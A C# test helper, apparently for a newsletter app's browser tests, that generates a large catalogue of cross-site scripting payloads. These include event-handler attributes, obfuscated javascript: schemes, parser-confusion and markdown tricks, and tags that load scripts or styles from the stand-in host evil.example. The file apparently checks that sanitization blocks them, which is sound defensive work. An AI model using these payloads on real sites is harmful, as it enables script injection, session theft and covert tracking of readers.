namespace Newsletter.BrowserTests;

/// <summary>
/// Markup that runs a script or loads something of somebody else where it gets into a page as it stands: elements × events × ways to write attributes,
/// schemes × what takes an address, and what confuses parsers. Each says its own number when it succeeds.
/// </summary>
internal static class HostileMarkup
{
    /// <summary>Whoever loads anything from here has been told who reads.</summary>
    public const string Evil = "https://evil.example/";

    private const string Script = "top.hit({n})";

    private static readonly string[] Elements =
        ["img src=x", "svg", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=about:blank", "object data=x", "marquee", "p tabindex=1", "a href=#x", "form", "select autofocus", "math", "table"];

    private static readonly string[] Events = ["onload", "onerror", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerrawupdate"];

    /// <summary>Element, event and script, as attributes are and are not written.</summary>
    private static readonly string[] Shapes =
        ["<{0} {1}={2}>", "<{0} {1}=\"{2}\">x", "<{0} {1}='{2}'", "<{0}/{1}={2}>", "<{0}\n{1}\n=\n{2}\n>", "<{0} x=\"'\" {1}=`${{2}}`>", "<{0} {1}=\"&#116;op.hit&lpar;{n}&rpar;\">", "<{0}\t{1}=\"\u2028{2}\" />", "<{0} data-x=\">\" {1}={2} x"];

    private static readonly string[] Schemes =
    [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&#0000058", "jav&#x09;ascript:", "jav&NewLine;ascript&colon;",
        "data:text/html,<script>top.postMessage({n},'*')</script>", "vbscript:", "view-source:javascript:", "javascript://example.org/%0A",
    ];

    private static readonly string[] Takers =
    [
        "<a href=\"{0}\">x</a>", "<a href='{0}'>x", "<iframe src=\"{0}\"></iframe>", "<form action=\"{0}\"><button>x</button></form>", "<form><button formaction=\"{0}\">x</button></form>", "<svg><a xlink:href=\"{0}\"><text y=9>x</text></a></svg>",
        "<math><mi href=\"{0}\">x</mi></math>", "<object data=\"{0}\"></object>", "<embed src=\"{0}\">", "<map><area href=\"{0}\"></map>", "[x]({0})", "[x](<{0}>)", "![x]({0})", "[x]: {0}\n\n[x]", "<{0}>",
    ];

    private static readonly string[] Tricks =
    [
        "<script>top.hit({n})</script>", "<SCRIPT>top.hit({n})</SCRIPT >", "<script/x>top.hit({n})</script>", "<script\n>top.hit({n})</script\t\n>", "<script src=\"data:text/javascript,top.hit({n})\"></script>", "<script type=module>top.hit({n})</script>", "<scr<script>ipt>top.hit({n})</scr</script>ipt>",
        "<<script>top.hit({n})//<</script>", "<svg><script>top.hit({n})</script></svg>", "<svg><script>top.hit&#40;{n}&#41;</script></svg>", "<svg><script xlink:href=\"data:,top.hit({n})\"></script></svg>", "<math><script>top.hit({n})</script></math>", "<svg></p><style><a title=\"</style><img src=x onerror=top.hit({n})>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.hit({n})&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.hit({n})>", "<math><annotation-xml encoding=text/html><script>top.hit({n})</script></annotation-xml></math>",
        "<svg><foreignObject><img src=x onerror=top.hit({n})></foreignObject></svg>", "<svg><desc><img src=x onerror=top.hit({n})></desc></svg>", "<svg><animate onbegin=top.hit({n}) attributeName=x dur=1s></svg>", "<svg><set attributeName=href to=javascript:top.hit({n})><a id=x href=#>x</a></svg>", "<noscript><p title=\"</noscript><img src=x onerror=top.hit({n})>\">",
        "<!--><img src=x onerror=top.hit({n})>-->", "<!--!><img src=x onerror=top.hit({n})>", "<!--<img src=\"--><img src=x onerror=top.hit({n})//\">", "<!-- --!><script>top.hit({n})</script>", "<![CDATA[<img src=x onerror=top.hit({n})>]]>", "<?xml ?><script>top.hit({n})</script>", "<!DOCTYPE x [<!ENTITY a \"<script>top.hit({n})</script>\">]><b>&a;</b>",
        "<xmp><p title=\"</xmp><img src=x onerror=top.hit({n})>\">", "<title><b title=\"</title><img src=x onerror=top.hit({n})>\">", "<textarea><b title=\"</textarea><img src=x onerror=top.hit({n})>\">", "<style><b title=\"</style><img src=x onerror=top.hit({n})>\">", "<noembed><b title=\"</noembed><img src=x onerror=top.hit({n})>\">",
        "<iframe><b title=\"</iframe><img src=x onerror=top.hit({n})>\">", "<iframe srcdoc=\"&lt;script>top.postMessage({n},'*')&lt;/script>\"></iframe>", "<template shadowrootmode=open><script>top.hit({n})</script></template>", "<div><template shadowrootmode=open><img src=x onerror=top.hit({n})></template></div>", "<select><option><script>top.hit({n})</script></select>",
        "<table><tr><script>top.hit({n})</script></tr></table>", "<table><td><img src=x onerror=top.hit({n})>", "<video><source onerror=top.hit({n})></video>", "<picture><source srcset=x><img onerror=top.hit({n}) src=x></picture>", "<IMG \"\"\"><SCRIPT>top.hit({n})</SCRIPT>\">", "<img src=\"x` `<script>top.hit({n})</script>\"` `>",
        "<body onload=top.hit({n})>", "<html onmouseover=top.hit({n})>", "<body onpageshow=top.hit({n})>", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=top.hit({n})>x</b>", "<input type=image src=x onerror=top.hit({n})>", "<link rel=stylesheet href=x onerror=top.hit({n})>", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>top.postMessage({n},'*')</script>\">",
        "<a href=\"https://example.org/\" onclick=top.hit({n})>x</a>", "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=top.hit({n})>x</b>", "<input type=hidden oncontentvisibilityautostatechange=top.hit({n}) style=content-visibility:auto>", "`<script>`</script><script>top.hit({n})</script>", "```html\n</code></pre><script>top.hit({n})</script>\n```",
        "| <script>top.hit({n})</script> |\n|---|\n| <img src=x onerror=top.hit({n})> |", "[<img src=x onerror=top.hit({n})>](https://example.org)", "![<script>top.hit({n})</script>](https://example.org/x.png)", "[x](https://example.org \"\\\" onmouseover=top.hit({n}) x=\\\"\")", "![x\\\" onerror=\\\"top.hit({n})](x)", "> <script>\n> top.hit({n})\n> </script>",
        "- <img src=x\n  onerror=top.hit({n})>", "# <svg onload=top.hit({n})>", "<https://example.org/\"onmouseover=top.hit({n})>", "[^1]\n\n[^1]: <script>top.hit({n})</script>", "x{{onclick=top.hit({n})}}", "# x {onclick=top.hit({n})}", "*<script>top.hit({n})</script>*", "<p>\n\n<script>top.hit({n})</script>\n\n</p>",
        "\"><script>top.hit({n})</script>", "'><script>top.hit({n})</script>", "</p></div></section><script>top.hit({n})</script>", "</script><script>top.hit({n})</script>", "\" autofocus onfocus=top.hit({n}) x=\"", "' onmouseover=top.hit({n}) x='", "&lt;script&gt;top.hit({n})&lt;/script&gt;", "&amp;lt;script&amp;gt;top.hit({n})&amp;lt;/script&amp;gt;",
        "\\u003cscript\\u003etop.hit({n})\\u003c/script\\u003e", "%3Cscript%3Etop.hit({n})%3C/script%3E", "\uFF1Cscript\uFF1Etop.hit({n})\uFF1C/script\uFF1E", "+ADw-script+AD4-top.hit({n})+ADw-/script+AD4-", "<\u00ADscript>top.hit({n})</script>", "{{constructor.constructor('top.hit({n})')()}}", "${top.hit({n})}", "<script\u00A0>top.hit({n})</script>", "&#60;script&#62;top.hit({n})&#60;/script&#62;",
    ];

    private static readonly string[] Loads =
    [
        "<img src=\"{0}{n}\">", "<img srcset=\"{0}{n} 2x\">", "<picture><source srcset=\"{0}{n}\"><img></picture>", "<video poster=\"{0}{n}\"></video>", "<video src=\"{0}{n}\" autoplay></video>", "<audio src=\"{0}{n}\" preload=auto></audio>", "<video><track src=\"{0}{n}\" default></video>", "<iframe src=\"{0}{n}\"></iframe>", "<object data=\"{0}{n}\"></object>",
        "<embed src=\"{0}{n}\">", "<input type=image src=\"{0}{n}\">", "<body background=\"{0}{n}\">", "<table background=\"{0}{n}\"><td>x</table>", "<link rel=stylesheet href=\"{0}{n}\">", "<link rel=preload as=image href=\"{0}{n}\">", "<link rel=icon href=\"{0}{n}\">", "<style>@import '{0}{n}'</style>", "<style>*{background:url({0}{n})}</style>",
        "<p style=\"background:url({0}{n})\">x</p>", "<ul style=\"list-style-image:url({0}{n})\"><li>x</ul>", "<svg><image href=\"{0}{n}\" width=9 height=9></svg>", "<svg><use href=\"{0}{n}#x\"></svg>", "<svg><style>@import '{0}{n}'</style></svg>", "<script src=\"{0}{n}\"></script>", "<meta http-equiv=refresh content=\"0;url={0}{n}\">", "<base href=\"{0}{n}/\"><img src=x>",
        "![x]({0}{n})", "![x][y]\n\n[y]: {0}{n}", "[![x]({0}{n})](https://example.org)", "<figure><img src='{0}{n}'><figcaption>x</figcaption></figure>", "<img src=//evil.example/{n}>", "<img src=\"/\\evil.example/{n}\">",
    ];

    /// <summary>Each is another one; its number stands in the place of {n}.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Templates().Distinct().Select((template, n) => template.Replace("{n}", $"{n}", StringComparison.Ordinal))];

    private static IEnumerable<string> Templates()
    {
        for (var element = 0; element < Elements.Length; element++)
        {
            for (var name = 0; name < Events.Length; name++)
                yield return Shapes[(element + name * 2) % Shapes.Length].Replace("{0}", Elements[element], StringComparison.Ordinal).Replace("{1}", Events[name], StringComparison.Ordinal).Replace("{2}", Script, StringComparison.Ordinal);
        }
        foreach (var taker in Takers)
        {
            foreach (var scheme in Schemes) yield return taker.Replace("{0}", scheme.Contains("{n}", StringComparison.Ordinal) ? scheme : scheme + Script, StringComparison.Ordinal);
        }
        foreach (var trick in Tricks) yield return trick;
        foreach (var load in Loads) yield return load.Replace("{0}", Evil, StringComparison.Ordinal);
    }
}
